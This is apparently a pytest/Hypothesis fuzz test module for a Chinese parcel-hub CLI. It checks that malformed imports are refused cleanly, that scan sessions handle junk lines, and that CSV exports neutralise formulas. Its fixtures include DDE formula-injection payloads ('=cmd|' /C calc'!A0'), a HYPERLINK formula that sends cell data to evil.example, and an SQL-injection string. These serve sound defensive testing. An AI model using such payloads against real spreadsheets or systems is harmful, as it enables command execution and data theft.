"""Malformed input never gives a traceback, never half-writes, and exports stay inert.

Hypothesis feeds the parcel import files in the wrong encoding or of random bytes,
full-width digits, blank and ragged rows, enormous numbers, formula text such as
``=cmd|' /C calc'!A0`` and provinces that do not exist, and feeds `hub scan ARRIVE -`
junk lines, very long lines and control characters. Whatever comes in:

* the import either imports or raises a HubError (one sentence); a refused file leaves
  the database exactly as it was, an accepted one adds one event per parcel;
* the scan session answers every line (done / already / refused) and exits 0 or 1;
* `hub parcel list --csv` and the manifest CSV start no cell with = + - @ (or a tab or
  carriage return) unless the cell is a plain number.

Example counts are kept small (and there is no deadline: the machine is shared) so the
whole module runs in tens of seconds on each database.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys

import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, insert, select, update
from typer.testing import CliRunner

from logistics.cli.main import app
from logistics.domain.clock import utcnow
from logistics.errors import HubError
from logistics.models import Manifest, Parcel, ParcelEvent
from logistics.services import integrity, manifests
from logistics.services.parcel_import import import_parcels

POSTGRESQL = bool(os.environ.get("HUB_TEST_DATABASE_URL"))
OP = "fuzzer"

FUZZ = settings(
    max_examples=40,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

FIELDS = [
    "station", "order_ref", "sender_name", "sender_phone", "recipient_name",
    "recipient_phone", "province", "city", "address", "weight_kg", "length_cm",
    "width_cm", "height_cm", "category", "courier", "tracking_no",
]  # fmt: skip
CHINESE = {
    "station": "站点", "order_ref": "订单号", "recipient_name": "收件人",
    "recipient_phone": "电话", "province": "省份", "city": "城市", "address": "地址",
    "weight_kg": "重量", "courier": "快递", "tracking_no": "运单号",
}  # fmt: skip
REQUIRED_FIELDS = [
    "station", "recipient_name", "recipient_phone", "province", "address", "weight_kg"
]  # fmt: skip
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=1",
    "＝cmd|' /C calc'!A0",  # full-width, NFKC makes it '='
]
GOOD = {
    "station": ["GD01", "gd07", "ＧＤ０３", "GD30"],
    "order_ref": ["", "TB001", "JD-2026/11#7", "ｏｒｄ１２３"],
    "sender_name": ["李四", "王小二"],
    "sender_phone": ["13900001111", "0356-1234567"],
    "recipient_name": ["张三", "Zhang San", "欧阳娜娜"],
    "recipient_phone": ["13812345678", "１３８１２３４５６７８", "0851-88881234"],
    "province": ["52", "贵州", "贵州省", "Guizhou", "广东", "44", "５２"],
    "city": ["贵阳", "广州", "深圳"],
    "address": ["云岩区中华北路1号", "天河区体育西路1号"],
    "weight_kg": ["2.5", "１０", "0.3", "12kg", "3公斤"],
    "length_cm": ["30", "", "４０"],
    "width_cm": ["20", ""],
    "height_cm": ["10", ""],
    "category": ["kiwi", "tea", "腊肉", ""],
    "courier": ["", "", "ZTO", "SF", "EMS"],
    "tracking_no": ["", "", "", "73100000000001", "SF1234567890123", "YT1234567890123"],
}
NASTY = st.one_of(
    st.sampled_from(FORMULAS),
    st.sampled_from(["", "   ", "\u3000", "NULL", "None", "#N/A"]),
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
    st.sampled_from(["1e309", "NaN", "inf", "-0", "9" * 400, "0.0000001", "1,234.5"]),
    st.sampled_from(["火星", "Atlantis", "99", "00", "贵州省省", "Guizhou2", "台北"]),
    st.text(max_size=24),
    st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=8),
)


def full_width(text: str) -> str:
    return text.translate({ord(c): ord(c) + 0xFEE0 for c in "0123456789.-"})


@st.composite
def cells(draw, field: str):
    choice = draw(st.integers(0, 19))
    if choice < 17:
        return draw(st.sampled_from(GOOD[field]))
    if choice < 19:
        return full_width(draw(st.sampled_from(GOOD[field])))
    return draw(NASTY)


@st.composite
def parcel_files(draw) -> bytes:
    """A CSV meant as a parcel file, damaged in the ways real files are."""
    optional = [f for f in FIELDS if f not in REQUIRED_FIELDS]
    if draw(st.integers(0, 4)):
        fields = REQUIRED_FIELDS + draw(st.lists(st.sampled_from(optional), unique=True))
        fields = draw(st.permutations(fields))
    else:  # any columns at all
        fields = draw(st.lists(st.sampled_from(FIELDS), min_size=1, unique=True))
    headers = [
        CHINESE[f]
        if f in CHINESE and draw(st.booleans())
        else f.upper()
        if draw(st.booleans())
        else f
        for f in fields
    ]
    rows = []
    for _ in range(draw(st.integers(0, 6))):
        row = [draw(cells(f)) for f in fields]
        shape = draw(st.sampled_from(["whole"] * 6 + ["short", "long", "blank"]))
        if shape == "short":
            row = row[: draw(st.integers(0, len(row)))]
        elif shape == "long":
            row += draw(st.lists(NASTY, min_size=1, max_size=3))
        elif shape == "blank":
            row = []
        rows.append(row)
    delimiter = draw(st.sampled_from([",", ",", ",", ";", "\t"]))
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(headers)
    writer.writerows(rows)
    text = buffer.getvalue()
    encoding = draw(
        st.sampled_from(["utf-8"] * 3 + ["utf-8-sig", "gb18030", "gb18030", "utf-16", "latin-1"])
    )
    data = text.encode(encoding, errors="replace")
    if data and not draw(st.integers(0, 6)):  # a few bytes damaged in transit
        damaged = bytearray(data)
        for _ in range(draw(st.integers(1, 4))):
            damaged[draw(st.integers(0, len(damaged) - 1))] = draw(st.integers(0, 255))
        data = bytes(damaged)
    return data


def counts(session) -> tuple[int, int, int]:
    """Rows of parcels, events and manifests (the read ends: SQLite sessions lock to write)."""
    found = tuple(
        session.execute(select(func.count()).select_from(model)).scalar_one()
        for model in (Parcel, ParcelEvent, Manifest)
    )
    session.rollback()
    return found


def try_import(session, path, **options):
    """Import; a HubError is a fine answer, anything else is a bug (a traceback).
    Hypothesis may replay the same bytes, which the hub would refuse as the same file."""
    options.setdefault("again", True)
    try:
        return import_parcels(session, path, operator=OP, **options)
    except HubError as error:
        assert str(error).strip(), "a HubError must say something"
        return error


# ------------------------------------------------------------------ the import


@settings(FUZZ, max_examples=60)
@given(data=parcel_files(), skip_invalid=st.booleans(), suffix=st.sampled_from([".csv", ".txt"]))
def test_a_malformed_parcel_file_is_imported_or_refused_never_half_written(
    sample_network, tmp_path, data, skip_invalid, suffix
):
    session = sample_network
    path = tmp_path / f"parcels{suffix}"
    path.write_bytes(data)
    rejects = tmp_path / "rejects.csv"
    rejects.unlink(missing_ok=True)
    before = counts(session)
    options = {"skip_invalid": True, "rejects": rejects} if skip_invalid else {}
    outcome = try_import(session, path, **options)
    after = counts(session)
    event(
        f"refused: {type(outcome).__name__}"
        if isinstance(outcome, HubError)
        else f"imported {min(outcome.imported, 2)}+ rejected {min(outcome.rejected, 2)}+"
    )
    if isinstance(outcome, HubError):
        assert after == before, "a refused file must leave the database unchanged"
        assert not rejects.exists()
    else:
        added = outcome.imported
        assert after == (before[0] + added, before[1] + added, before[2])
        assert added + outcome.already + outcome.rejected <= outcome.rows
        assert rejects.exists() == bool(outcome.rejected)
        if not skip_invalid:
            assert outcome.rejected == 0
    assert integrity.check(session) == []


@FUZZ
@given(data=st.binary(max_size=2048), suffix=st.sampled_from([".csv", ".xlsx", ".txt"]))
@example(data=b"", suffix=".csv")
@example(data=b"\xef\xbb\xbf", suffix=".csv")
@example(data=b"PK\x03\x04" + bytes(range(256)), suffix=".xlsx")
@example(data=b"station,weight_kg\nGD01," + b"9" * 200_000 + b"\n", suffix=".csv")
@example(data=b"\xff\xfe" + "站点,重量\n".encode("utf-16-le"), suffix=".csv")
def test_random_bytes_are_refused_with_a_sentence(sample_network, tmp_path, data, suffix):
    session = sample_network
    path = tmp_path / f"noise{suffix}"
    path.write_bytes(data)
    before = counts(session)
    outcome = try_import(session, path)
    if isinstance(outcome, HubError):
        assert counts(session) == before
    assert integrity.check(session) == []


def test_a_refused_import_on_the_command_line_is_sentences_and_changes_nothing(
    sample_network, hub, tmp_path
):
    path = tmp_path / "bad.csv"
    path.write_text(
        "站点,收件人,电话,省份,地址,重量\n"
        "GD01,=cmd|' /C calc'!A0,13812345678,贵州,1号,2.5\n"
        "GD02,张三,１３８１２３４５６７８,火星,2号,９９９９９９９９９\n"
        "\n"
        "GD03,李四\n",
        encoding="gb18030",
    )
    before = counts(sample_network)
    result = hub("parcel", "import", str(path))
    assert result.exit_code == 1
    assert "nothing was imported" in result.output and "火星" in result.output
    assert "Traceback" not in result.output and "Unexpected error" not in result.output
    assert counts(sample_network) == before


# ------------------------------------------------------------------ the scan reader

JUNK_LINE = st.one_of(
    st.text(
        alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\n\r"),
        max_size=40,
    ),
    st.text(alphabet=st.characters(max_codepoint=0x9F, blacklist_characters="\x00"), max_size=12),
    st.sampled_from(FORMULAS + ["[bold]x[/bold]", "[/]", "\\[", "A\\", "%s%n", "' OR 1=1 --"]),
    st.text(alphabet="P0123456789-", min_size=1, max_size=30),
    st.integers(min_value=1, max_value=5000).map(lambda n: "7" * n),
)


@pytest.fixture
def scanner(make_parcel, sample_network, database_url, monkeypatch):
    monkeypatch.setenv("HUB_DATABASE_URL", database_url)
    codes = [make_parcel("collected").parcel_no for _ in range(6)]
    return sample_network, codes


@settings(FUZZ, max_examples=25)
@given(junk=st.lists(JUNK_LINE, max_size=12), picks=st.lists(st.integers(0, 5), max_size=8))
def test_a_scan_session_answers_junk_lines_one_by_one(scanner, junk, picks):
    session, codes = scanner
    chosen = [codes[i] for i in picks]
    lines = junk + chosen
    lines = [lines[i] for i in sorted(range(len(lines)), key=lambda i: (i * 7919) % 13)]
    before = counts(session)
    events_before = _arrivals(session)
    result = CliRunner().invoke(app, ["scan", "arrive", "-"], input="\n".join(lines) + "\n")
    assert "Traceback" not in result.output and "Unexpected error" not in result.output, (
        result.output
    )
    assert result.exit_code in (0, 1), result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    answers = [
        line
        for line in result.output.split("\n")
        if line.split()[:1] in (["done"], ["already"], ["refused"])
    ]
    summary = re.search(
        r"(\d+) scanned: (\d+) done, (\d+) already done, (\d+) refused", result.output
    )
    assert summary, result.output
    scanned, done, already, refused = map(int, summary.groups())
    assert scanned == len(answers) == done + already + refused
    assert result.exit_code == (1 if refused else 0)
    # Only the real codes changed anything, each once.
    new = {c for c in set(chosen) if c not in events_before}
    assert done == len(new)
    assert _arrivals(session) == events_before | new
    after = counts(session)
    assert after == (before[0], before[1] + done, before[2])
    assert integrity.check(session) == []


def _arrivals(session) -> set[str]:
    found = set(
        session.execute(
            select(Parcel.parcel_no)
            .join(ParcelEvent, ParcelEvent.parcel_id == Parcel.id)
            .where(ParcelEvent.action == "arrive")
        ).scalars()
    )
    session.rollback()
    return found


def _scan_process(database_url, tmp_path, stdin: bytes):
    env = {**os.environ, "HUB_DATABASE_URL": database_url, "COLUMNS": "200"}
    return subprocess.run(
        [sys.executable, "-m", "logistics", "scan", "arrive", "-"],
        input=stdin,
        capture_output=True,
        cwd=tmp_path,
        env=env,
        timeout=120,
    )


def test_a_line_of_bytes_that_are_not_text_is_refused_and_the_session_goes_on(
    scanner, database_url, tmp_path
):
    session, codes = scanner
    session.close()
    stdin = f"{codes[0]}\n".encode() + b"\xff\xfe\x80 junk\n" + f"{codes[1]}\n".encode()
    result = _scan_process(database_url, tmp_path, stdin)
    output = (result.stdout + result.stderr).decode("utf-8", "replace")
    assert "Unexpected error" not in output and "Traceback" not in output, output
    assert result.returncode == 1
    assert "3 scanned: 2 done, 0 already done, 1 refused" in " ".join(output.split())


def test_a_code_with_a_nul_character_is_refused_and_the_session_goes_on(
    scanner, database_url, tmp_path
):
    session, codes = scanner
    session.close()
    stdin = f"{codes[0]}\nP2026\x001123-1\n{codes[1]}\n".encode()
    result = _scan_process(database_url, tmp_path, stdin)
    output = (result.stdout + result.stderr).decode("utf-8", "replace")
    assert "Unexpected error" not in output and "Traceback" not in output, output
    assert result.returncode == 1
    assert "3 scanned: 2 done, 0 already done, 1 refused" in " ".join(output.split())


# ------------------------------------------------------------------ exports

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def assert_inert(text: str, what: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    for row in rows:
        for cell in row:
            if cell.lstrip(" ").startswith(FORMULA_START):
                assert PLAIN_NUMBER.fullmatch(cell), f"{what}: the cell {cell!r} is a formula"
    return rows


FORMULA_TEXT = st.one_of(
    st.sampled_from(FORMULAS),
    st.tuples(st.sampled_from("=+-@"), st.text(min_size=1, max_size=20)).map("".join),
).filter(lambda t: not re.search(r"[\x00-\x1f\x7f-\x9f]", t.strip()))


@settings(FUZZ, max_examples=10)
@given(names=st.lists(FORMULA_TEXT, min_size=1, max_size=6), data=st.data())
def test_exports_neutralise_formulas_typed_into_any_text_column(
    sample_network, database_url, monkeypatch, tmp_path, names, data
):
    monkeypatch.setenv("HUB_DATABASE_URL", database_url)
    session = sample_network
    runner = CliRunner()
    start = counts(session)[0]
    path = tmp_path / "formulas.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(
        ["station", "recipient_name", "sender_name", "recipient_phone", "province", "city",
         "address", "weight_kg", "category", "courier"]
    )  # fmt: skip
    for name in names:
        writer.writerow(
            ["GD01", name, data.draw(FORMULA_TEXT), "13812345678", "44", data.draw(FORMULA_TEXT),
             data.draw(FORMULA_TEXT), "1.5", data.draw(FORMULA_TEXT)[:32], "ZTO"]
        )  # fmt: skip
    path.write_text(buffer.getvalue(), encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    rejects.unlink(missing_ok=True)  # one rejects file per Hypothesis example
    outcome = try_import(session, path, skip_invalid=True, rejects=rejects)
    assert not isinstance(outcome, HubError), outcome
    if outcome.imported == 0:
        return  # every row refused (a text too long, ...): nothing to export

    listing = runner.invoke(app, ["parcel", "list", "--csv", "--limit", "0"])
    assert listing.exit_code == 0, listing.output
    rows = assert_inert(listing.output, "hub parcel list --csv")
    assert len(rows) == 1 + start + outcome.imported

    _to_the_hub(session, outcome.parcel_nos)
    built = manifests.build_manifests(session, courier="ZTO", operator=OP).manifests[0]
    target = tmp_path / f"{built.manifest_no}.csv"
    target.unlink(missing_ok=True)
    printed = runner.invoke(app, ["manifest", "print", built.manifest_no, "--csv", str(target)])
    assert printed.exit_code == 0, printed.output
    assert_inert(target.read_text(encoding="utf-8-sig"), "manifest CSV")


def _to_the_hub(session, parcel_nos: list[str]) -> None:
    """Collect and arrive the parcels in bulk (with their events): set-up, not the subject."""
    found = session.execute(
        select(Parcel.id, Parcel.hub_id).where(Parcel.parcel_no.in_(parcel_nos))
    ).all()
    ids, hub_of = [i for i, _hub in found], dict(found)
    now = utcnow()
    for action, before, after in (
        ("collect", "registered", "collected"),
        ("arrive", "collected", "at_hub"),
    ):
        session.execute(
            insert(ParcelEvent),
            [
                {"hub_id": hub_of[i], "parcel_id": i, "at": now, "action": action,
                 "from_status": before, "to_status": after, "place": "GD01", "operator": OP,
                 "note": None}
                for i in ids
            ],
        )  # fmt: skip
    session.execute(update(Parcel).where(Parcel.id.in_(ids)).values(status="at_hub", status_at=now))
    session.commit()


def test_the_rejects_file_neutralises_formulas_too(sample_network, tmp_path):
    path = tmp_path / "p.csv"
    path.write_text(
        "station,recipient_name,recipient_phone,province,address,weight_kg\n"
        "GD01,=cmd|' /C calc'!A0,13812345678,火星,1号,2.5\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "rejects.csv"
    summary = import_parcels(sample_network, path, operator=OP, skip_invalid=True, rejects=rejects)
    assert summary.rejected == 1
    assert_inert(rejects.read_text(encoding="utf-8-sig"), "rejects file")
